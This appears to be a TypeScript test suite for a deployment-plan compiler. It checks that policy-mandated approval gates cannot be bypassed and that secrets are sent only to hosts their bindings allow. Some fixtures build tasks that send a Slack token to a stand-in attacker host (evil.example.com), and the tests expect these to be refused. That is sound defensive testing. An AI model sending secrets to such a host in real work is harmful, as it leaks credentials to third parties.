/**
 * Protected environments: the deployment's policy puts its gates into every plan that touches a
 * protected project, environment plans and task plans alike, and no plan can remove or weaken them.
 */
import { protectionPolicySchema, type ProtectionPolicy } from "../../../functions/src/trust/policy";
import type { TaskSpec } from "../../../functions/src/schema/plan";
import { compiled, envPlan, errorsOf, example } from "./helpers";

const policy = (over: Record<string, unknown> = {}): ProtectionPolicy =>
  protectionPolicySchema.parse({
    protectedEnvironments: [{ projectId: "lang-trak-prod", approvers: ["ana@example.com", "bob@example.com", "group:release"], requiredApprovals: 2, approvalDeadlineHours: 24, ...over }],
  });

const firebaseTask = (id: string, projectId: string, extra: Record<string, unknown> = {}) => ({
  id,
  run: "firebase",
  params: { integration: "hosting", environment: "production", projectId, region: "us-central1" },
  ...extra,
});

const byId = (tasks: TaskSpec[]) => new Map(tasks.map((t) => [t.id, t]));
/** Every task upstream of `id`. */
function ancestors(tasks: TaskSpec[], id: string): Set<string> {
  const map = byId(tasks);
  const seen = new Set<string>();
  const stack = [...map.get(id)!.needs];
  while (stack.length > 0) {
    const next = stack.pop()!;
    if (!seen.has(next)) {
      seen.add(next);
      stack.push(...map.get(next)!.needs);
    }
  }
  return seen;
}

describe("task plans", () => {
  it("insert the policy's gate before every task that touches a protected project, with the policy's rules", () => {
    const plan = compiled(
      { approvers: ["mallory@example.com"], tasks: [{ id: "build", run: "noop" }, firebaseTask("deploy", "lang-trak-prod", { needs: ["build"] }), firebaseTask("dev", "lang-trak-dev")] },
      { protection: policy() },
    );
    const tasks = byId(plan.tasks);
    const gate = tasks.get("protected.lang-trak-prod.approval")!;
    expect(gate).toMatchObject({
      run: "approval",
      needs: ["build"],
      timeoutSeconds: 24 * 3600,
      params: { approvers: ["ana@example.com", "bob@example.com", "group:release"], requiredApprovals: 2, allowSelfApproval: false, protectedProject: "lang-trak-prod" },
    });
    expect(tasks.get("deploy")!.needs).toEqual(["build", "protected.lang-trak-prod.approval"]);
    // What does not touch a protected project is left alone.
    expect(tasks.get("dev")!.needs).toEqual([]);
    expect(plan.summary.approvalGateCount).toBe(1);
    expect(plan.report.compliance).toEqual([expect.objectContaining({ id: "policy:protected:lang-trak-prod", status: "pass", reason: expect.stringContaining("needs 2 of") })]);
  });

  it("gate a task whose compensation reaches a protected project", () => {
    const plan = compiled({ tasks: [{ id: "hook", run: "noop", compensate: { run: "firebase", params: firebaseTask("x", "lang-trak-prod").params } }] }, { protection: policy() });
    expect(byId(plan.tasks).get("hook")!.needs).toEqual(["protected.lang-trak-prod.approval"]);
  });

  it("cannot weaken the gate: an author's own approval task does not replace it", () => {
    const plan = compiled(
      { tasks: [{ id: "my-gate", run: "approval", params: { approvers: ["mallory@example.com"] } }, firebaseTask("deploy", "lang-trak-prod", { needs: ["my-gate"] })] },
      { protection: policy() },
    );
    expect(byId(plan.tasks).get("deploy")!.needs).toEqual(["my-gate", "protected.lang-trak-prod.approval"]);
    expect(byId(plan.tasks).get("protected.lang-trak-prod.approval")!.needs).toEqual(["my-gate"]);
  });

  it("refuses trigger rules under which a rejected gate would still let the change run", () => {
    for (const rule of ["all_done", "one_failed"]) {
      expect(errorsOf({ tasks: [{ id: "a", run: "noop" }, firebaseTask("deploy", "lang-trak-prod", { needs: ["a"], triggerRule: rule })] }, { protection: policy() })).toEqual([
        { path: "tasks.1.triggerRule", message: expect.stringContaining("runs only after that environment's approval succeeds") },
      ]);
    }
  });

  it("refuses a task that takes the gate's reserved id, and a forged protectedProject marker", () => {
    expect(errorsOf({ tasks: [{ id: "protected.lang-trak-prod.approval", run: "noop" }, firebaseTask("deploy", "lang-trak-prod")] }, { protection: policy() })).toEqual([
      { path: "tasks.0.id", message: expect.stringContaining("reserved") },
    ]);
    expect(errorsOf({ tasks: [{ id: "g", run: "approval", params: { protectedProject: "lang-trak-prod" } }] })[0]!.path).toBe("tasks.0.params");
  });

  it("never makes a cycle when a touching task sits downstream of another", () => {
    const plan = compiled(
      { tasks: [firebaseTask("first", "lang-trak-prod"), { id: "middle", run: "noop", needs: ["first"] }, firebaseTask("second", "lang-trak-prod", { needs: ["middle"] })] },
      { protection: policy() },
    );
    expect(byId(plan.tasks).get("protected.lang-trak-prod.approval")!.needs).toEqual([]);
    for (const id of ["first", "second"]) expect(ancestors(plan.tasks, id)).toContain("protected.lang-trak-prod.approval");
  });

  it("change nothing without a policy, or when no task touches a protected project", () => {
    const spec = { tasks: [firebaseTask("deploy", "lang-trak-prod")] };
    expect(compiled(spec).tasks.map((t) => t.id)).toEqual(["deploy"]);
    expect(compiled({ tasks: [firebaseTask("deploy", "lang-trak-dev")] }, { protection: policy() }).tasks.map((t) => t.id)).toEqual(["deploy"]);
  });
});

describe("environment plans", () => {
  it("hand the environment's own gate to the policy: its approvers, count and deadline replace the plan's", () => {
    const plan = compiled(example("lang-trak.json"), { protection: policy() });
    const gate = byId(plan.tasks).get("production.approval")!;
    expect(gate).toMatchObject({ timeoutSeconds: 24 * 3600, params: { approvers: ["ana@example.com", "bob@example.com", "group:release"], requiredApprovals: 2, protectedProject: "lang-trak-prod" } });
    expect(plan.tasks.some((t) => t.id.startsWith("protected."))).toBe(false);
    for (const t of plan.tasks.filter((t) => t.id.startsWith("production.") && t.id !== "production.approval")) expect(ancestors(plan.tasks, t.id)).toContain("production.approval");
    // Staging keeps the plan's own gate.
    expect(byId(plan.tasks).get("staging.approval")!.params).not.toHaveProperty("protectedProject");
  });

  it("give a protected environment a gate even when the plan deploys it automatically", () => {
    const plan = compiled(envPlan({}, { prod: { autoDeploy: true } }), { protection: policy({ projectId: "acme-prod" }) });
    expect(byId(plan.tasks).get("prod.approval")).toMatchObject({ params: { protectedProject: "acme-prod" } });
  });
});

describe("the policy document", () => {
  it("is validated: at least one approver, enough approvers for N, no project listed twice", () => {
    expect(protectionPolicySchema.safeParse({ protectedEnvironments: [{ projectId: "lang-trak-prod", approvers: [] }] }).success).toBe(false);
    expect(protectionPolicySchema.safeParse({ protectedEnvironments: [{ projectId: "lang-trak-prod", approvers: ["a@x.com"], requiredApprovals: 2 }] }).success).toBe(false);
    expect(protectionPolicySchema.safeParse({ protectedEnvironments: [{ projectId: "lang-trak-prod", approvers: ["group:ops"], requiredApprovals: 2 }] }).success).toBe(true);
    const twice = { projectId: "lang-trak-prod", approvers: ["a@x.com"] };
    expect(protectionPolicySchema.safeParse({ protectedEnvironments: [twice, twice] }).success).toBe(false);
    expect(protectionPolicySchema.safeParse({ protectedEnvironments: [], surprise: true }).success).toBe(false);
  });
});

describe("secrets bound to destinations", () => {
  const send = (url: string, secret = "SLACK_TOKEN") => ({ tasks: [{ id: "a", run: "noop" }, { id: "notify", run: "http", params: { url, headersFromSecrets: { Authorization: secret } }, needs: ["a"] }] });
  const secretBindings = { SLACK_TOKEN: ["hooks.slack.com"] };

  it("refuse a plan that sends a secret to a host its binding does not name, or a secret with no binding, with the path", () => {
    expect(compiled(send("https://hooks.slack.com/services/x"), { secretBindings }).tasks).toHaveLength(2);
    expect(errorsOf(send("https://evil.example.com/collect"), { secretBindings })).toEqual([{ path: "tasks.1.params.headersFromSecrets.Authorization", message: expect.stringContaining("hooks.slack.com") }]);
    expect(errorsOf(send("https://hooks.slack.com/x", "OTHER_TOKEN"), { secretBindings })).toEqual([{ path: "tasks.1.params.headersFromSecrets.Authorization", message: expect.stringContaining("OTHER_TOKEN") }]);
  });

  it("check compensations too", () => {
    const plan = { tasks: [{ id: "a", run: "noop", compensate: { run: "http", params: { url: "https://evil.example.com/", headersFromSecrets: { "X-Key": "SLACK_TOKEN" } } } }] };
    expect(errorsOf(plan, { secretBindings })).toEqual([{ path: "tasks.0.compensate.params.headersFromSecrets.X-Key", message: expect.any(String) }]);
  });
});
